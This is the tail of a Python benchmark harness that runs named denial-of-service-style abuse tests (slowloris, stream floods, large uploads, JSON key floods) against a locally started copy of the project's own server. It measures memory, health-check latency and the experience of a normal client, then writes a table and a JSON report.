    for r in results:
        rss, hz, good = r.get("rss_mb") or {}, r.get("healthz") or {}, r.get("good_client") or {}
        failed = [k for k, v in r.get("checks", {}).items() if not v]
        rows.append(f"| {r['attack']} | {rss.get('peak')} ({rss.get('peak_rise')}) | {rss.get('after')} "
                    f"({rss.get('end_rise')}) | {hz.get('p50_ms')} / {hz.get('p99_ms')} / "
                    f"{hz.get('max_ms')} | {hz.get('failures')} | {good.get('requests')} | {good.get('non_2xx') or 0} | "
                    f"{good.get('p99_ms')} | {', '.join(failed) or '-'} | {outcome_line(r)} |")
    return "\n".join(rows)


def run_suite(names: list[str], opts: Options, out: Path | None = None,
              echo: Callable[[str], None] = print) -> list[dict]:
    raise_nofile()
    results = []
    for name in names:
        echo(f"== {name} ...")
        result = run_attack(name, opts)
        results.append(result)
        echo(table([result]).splitlines()[-1])
        if out is not None:
            write(results, opts, out)
    return results


def write(results: list[dict], opts: Options, out: Path) -> None:
    report = {"machine": {"cpus": os.cpu_count(), "python": platform.python_version(),
                          "platform": platform.platform(), "fd_limit_at_start": ORIGINAL_NOFILE[0]},
              "started": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
              "how": "python -m benchmarks.abuse: a fresh `python -m service` per attack on 127.0.0.1; monitor in "
                     "a separate process: /healthz every 20 ms on a new connection (healthz) and every 100 ms on a "
                     "kept-alive one (healthz_keepalive), the good client at 20 req/s over 4 connections, VmRSS of "
                     "the server and its children every 50 ms; figures over the attack and a settle after it",
              "attacks": results}
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(json.dumps(report, indent=2, default=str) + "\n")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", nargs="+", choices=list(ATTACKS), metavar="NAME",
                        help=f"attacks to run (default: all): {', '.join(ATTACKS)}")
    parser.add_argument("--seconds", type=float, default=None,
                        help="length of each attack (default: 10, the round-two attacks 15)")
    parser.add_argument("--settle", type=float, default=10.0,
                        help="monitoring after each attack; memory 'after' is read at its end (default: %(default)s)")
    parser.add_argument("--out", type=Path, default=RESULTS / "abuse.json", help="JSON report (default: %(default)s)")
    parser.add_argument("--slow-connections", type=int, default=1000, help="slowloris connections")
    parser.add_argument("--read-timeout", type=float, default=5.0, help="SERVE_REQUEST_READ_TIMEOUT_S for slowloris")
    parser.add_argument("--slow-max-connections", type=int, default=None,
                        help="SERVE_MAX_CONNECTIONS for slowloris (default: the server's own default)")
    parser.add_argument("--connection-cap", type=int, default=256, help="SERVE_MAX_CONNECTIONS for conn-cap")
    parser.add_argument("--streams", type=int, default=500, help="stream-flood concurrency")
    parser.add_argument("--uploads", type=int, default=8, help="big-uploads concurrency")
    parser.add_argument("--json-keys", type=int, default=800_000, help="unique keys in the json-key-flood body")
    parser.add_argument("--rate", type=float, default=20.0, help="the good client's requests per second")
    parser.add_argument("--grpc-streams", type=int, default=10_000, help="grpc-streams-unread: calls left hanging")
    parser.add_argument("--mix-clients", type=int, default=64, help="broken-upload-mix concurrency")
    parser.add_argument("--no-control", action="store_true", help="skip proving the tampered payloads live")
    parser.add_argument("--keep", action="store_true", help="keep each attack's folder (server log, artifacts)")
    args = parser.parse_args(argv)
    opts = Options(seconds=args.seconds, slow_connections=args.slow_connections, read_timeout_s=args.read_timeout,
                   slow_max_connections=args.slow_max_connections,
                   connection_cap=args.connection_cap, streams=args.streams, uploads=args.uploads,
                   json_keys=args.json_keys, good_rate=args.rate, control=not args.no_control, keep_work=args.keep,
                   settle_s=args.settle, grpc_streams=args.grpc_streams, mix_clients=args.mix_clients)
    results = run_suite(args.only or list(ATTACKS), opts, args.out)
    print()
    print(table(results))
    print(f"\nwrote {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
